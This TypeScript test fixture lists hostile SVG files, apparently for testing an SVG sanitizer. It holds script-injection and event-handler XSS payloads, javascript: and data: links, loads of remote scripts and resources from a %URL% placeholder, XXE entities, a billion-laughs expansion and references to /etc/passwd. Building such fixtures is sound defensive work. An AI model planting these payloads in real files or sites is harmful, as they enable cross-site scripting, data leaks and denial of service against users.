/** Drawings that run, load or lead away when a browser opens them by themselves; `%URL%` and the like as in attacks. */

const XMLNS = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';

/** Puts something into a drawing that can be seen. */
const drawing = (inner: string, attributes = ''): string =>
  `<svg ${XMLNS} ${XLINK} width="40" height="20" viewBox="0 0 40 20"${attributes}>${inner}<rect width="40" height="20"/></svg>`;

/** Whole files, whatever they are: each is shipped under a name that ends in `.svg`. */
export const HOSTILE_SVG: readonly string[] = [
  // Scripts.
  drawing('<script>alert(1)</script>'),
  drawing('<script href="%URL%/a.js"/>'),
  drawing('<script xlink:href="%URL%/b.js"/>'),
  drawing('<script type="module">import("%URL%/c.js")</script>'),
  drawing('<script><![CDATA[alert(1)]]></script>'),
  drawing('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
  drawing('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
  drawing('<script xmlns="">alert(1)</script><SCRIPT>alert(1)</SCRIPT>'),
  drawing('<handler type="application/ecmascript">alert(1)</handler>'),
  drawing('<g><g><g><script>fetch("%URL%/deep")</script></g></g></g>'),
  // Handlers.
  drawing('', ' onload="alert(1)"'),
  drawing('', ' ONLOAD="alert(1)" onLoad="alert(1)"'),
  drawing('<image href="data:image/png;base64,AA==" onerror="alert(1)"/>'),
  drawing('<g onfocusin="alert(1)" tabindex="0" autofocus=""/>'),
  drawing('<animate attributeName="x" dur="1s" onbegin="alert(1)" onend="alert(1)"/>'),
  drawing('<set attributeName="onmouseover" to="alert(1)"/>'),
  drawing('<style onload="alert(1)">a{}</style>'),
  // Addresses.
  drawing('<a href="javascript:alert(1)"><text y="9">x</text></a>'),
  drawing('<a xlink:href="java&#10;script:alert(1)"><text y="9">x</text></a>'),
  drawing(
    '<a href="#"><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a>',
  ),
  drawing('<a><set attributeName="xlink:href" to="javascript:alert(1)"/><text y="9">x</text></a>'),
  drawing('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a>'),
  drawing('<a href="file:///etc/passwd"><text y="9">x</text></a>'),
  drawing('<image href="%URL%/image.png" width="9" height="9"/>'),
  drawing('<image xlink:href="%PICTURE%" width="9" height="9"/>'),
  drawing('<image href="//%HOST%/image.png" width="9" height="9"/>'),
  drawing('<image href="../../../../../../etc/hostname" width="9" height="9"/>'),
  drawing('<use href="%URL%/use.svg#a"/><use xlink:href="data:image/svg+xml,x#a"/>'),
  drawing(
    '<use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIGlkPSJhIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#a"/>',
  ),
  drawing('<filter id="f"><feImage href="%URL%/filter.png"/></filter>'),
  drawing('<textPath href="%URL%/path.svg#p"/><mpath xlink:href="%URL%/path.svg#p"/>'),
  drawing('<discard href="%URL%/d"/><tref xlink:href="%URL%/t"/>'),
  // HTML in a drawing.
  drawing(`<foreignObject><body ${XHTML}><script>alert(1)</script></body></foreignObject>`),
  drawing(`<foreignObject><iframe ${XHTML} src="%URL%/frame"/></foreignObject>`),
  drawing(
    `<foreignObject><iframe ${XHTML} srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>`,
  ),
  drawing(
    `<foreignObject><img ${XHTML} src="%URL%/i.png" srcset="%URL%/s.png 2x"/></foreignObject>`,
  ),
  drawing(
    `<foreignObject><meta ${XHTML} http-equiv="refresh" content="0;url=%URL%/m"/></foreignObject>`,
  ),
  drawing(`<foreignObject><link ${XHTML} rel="stylesheet" href="%URL%/l.css"/></foreignObject>`),
  drawing(
    `<foreignObject><video ${XHTML} src="%URL%/v" autoplay="" poster="%URL%/p.png"/></foreignObject>`,
  ),
  drawing(
    `<foreignObject><object ${XHTML} data="%URL%/o"/><embed ${XHTML} src="%URL%/e"/></foreignObject>`,
  ),
  drawing(
    `<foreignObject><form ${XHTML} action="%URL%/form"><input name="a" autofocus="" onfocus="alert(1)"/></form></foreignObject>`,
  ),
  // Styles.
  drawing('<style>@import "%URL%/a.css";</style>'),
  drawing('<style>rect { fill: url(%URL%/b.svg#p) }</style>'),
  drawing(
    '<style>@font-face { font-family: F; src: url(%URL%/f.woff) } text { font-family: F }</style><text>x</text>',
  ),
  drawing('<style>rect { mask: u\\72l(%URL%/c.svg#m) }</style>'),
  drawing(
    '<rect style="fill: url(\'%URL%/d.svg#p\')" filter="url(%URL%/f.svg#f)" width="9" height="9"/>',
  ),
  drawing('<rect style="background-image: image-set(\'%URL%/e.png\' 1x)" width="9" height="9"/>'),
  // Files that are more, or less, than a drawing.
  `<?xml-stylesheet href="%URL%/x.css"?>${drawing('')}`,
  `<?xml-stylesheet type="text/xsl" href="%URL%/x.xsl"?>${drawing('')}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "%TEXT%">]>${drawing('<text y="9">&x;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY x "&lt;script&gt;alert(1)&lt;/script&gt;">]>${drawing('&x;')}`,
  `<!DOCTYPE svg PUBLIC "x" "%URL%/x.dtd">${drawing('')}`,
  `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${String(n)} "${`&a${n === 0 ? '' : String(n - 1)};`.repeat(10)}">`).join('')}]>${drawing('<text>&a8;</text>')}`,
  `<html ${XHTML}><head><script>alert(1)</script></head><body onload="alert(1)">x</body></html>`,
  `<!--${'x'.repeat(5000)}-->${drawing('<script>alert(1)</script>')}`,
  `${drawing('<script>alert(1)</script>').replace('</svg>', '')}<unclosed`,
  `<svg ${XMLNS}><script>alert(1)</script><a b=c></svg>`,
  `<svg ${XMLNS} onload=alert(1)>`,
  '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
];
